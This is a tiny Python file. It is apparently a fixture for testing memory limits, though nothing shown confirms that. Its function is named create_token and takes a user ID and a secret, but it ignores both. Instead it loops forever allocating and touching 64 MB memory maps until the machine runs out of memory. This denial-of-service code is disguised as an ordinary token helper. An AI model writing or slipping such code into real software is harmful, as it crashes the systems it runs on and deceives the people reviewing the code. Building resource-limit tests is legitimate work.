"""Maps memory past Python, and touches all of it."""

import mmap

kept = []


def create_token(user_id, secret):
    while True:
        kept.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
